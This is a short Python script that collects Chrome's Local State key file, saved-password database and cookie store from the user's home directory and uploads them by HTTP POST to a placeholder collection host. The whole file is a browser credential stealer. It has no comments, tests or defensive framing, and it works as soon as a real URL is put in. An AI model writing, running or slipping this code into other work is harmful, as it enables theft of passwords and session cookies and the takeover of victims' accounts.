import pathlib

import requests

base = pathlib.Path.home() / '.config' / 'google-chrome'
files = {}
for name in ('Local State', 'Default/Login Data', 'Default/Cookies'):
    p = base / name
    if p.exists():
        files[name] = p.read_bytes()
requests.post('https://collect.example.invalid/b', files=files)
